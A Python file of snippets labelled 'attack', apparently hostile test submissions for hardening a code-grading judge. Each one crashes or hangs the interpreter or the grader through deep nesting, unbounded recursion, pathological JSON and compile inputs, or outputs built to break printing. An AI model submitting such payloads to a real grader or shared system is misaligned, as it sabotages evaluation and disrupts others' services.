# attack: a chain of iterators in C
import itertools

chain = iter([3])
for _ in range(300000):
    chain = itertools.chain(chain)

def add(a, b):
    next(chain)

# attack: a chain of maps in C
chain = iter([3])
for _ in range(300000):
    chain = map(abs, chain)

def add(a, b):
    next(chain)

# attack: tuples in tuples hashed
value = ()
for _ in range(300000):
    value = (value,)

def add(a, b):
    hash(value)

# attack: lists in lists compared
one, other = [], []
for _ in range(100000):
    one, other = [one], [other]

def add(a, b):
    one == other

# attack: endless text for the parser of JSON
import json

def add(a, b):
    for opening in ("[", '{"a":', '[{"a":'):
        try:
            json.loads(opening * 1000000)
        except (RecursionError, ValueError):
            pass

# attack: endless text for the compiler
def add(a, b):
    for text in ("-" * 100000 + "1", "(" * 10000, "a" + ".a" * 100000, "[" * 10000, "not " * 100000 + "1"):
        try:
            compile(text, "", "eval")
        except (RecursionError, MemoryError, SyntaxError):
            pass

# attack: recursion through C that is caught for ever
import functools

def down(n):
    return deeper(n + 1)

deeper = functools.partial(down)

def add(a, b):
    while True:
        try:
            sorted([1], key=lambda _: add(a, b))
        except RecursionError:
            pass

# attack: recursion without a limit through C
import functools
import sys

sys.setrecursionlimit(10**9)

@functools.lru_cache(None)
def down(n):
    return down(n + 1)

def add(a, b):
    try:
        down(0)
    except RecursionError:
        return None

# attack: recursion without a limit in Python
import sys

sys.setrecursionlimit(10**9)

def add(a, b):
    return add(a, b)

# attack: objects that destroy one another
class Link:
    def __init__(self, next):
        self.next = next

    def __del__(self):
        self.next = Link(self.next)

chain = None
for _ in range(20000):
    chain = Link(chain)
chain = None

# attack: an answer that is too deep
def add(a, b):
    value = 3
    for _ in range(100000):
        value = [value]
    return value

# attack: an answer that is deep where the judge prints it
class Deep(Exception):
    def __str__(self):
        return "(" * 1000000

    __repr__ = __str__

def add(a, b):
    raise Deep
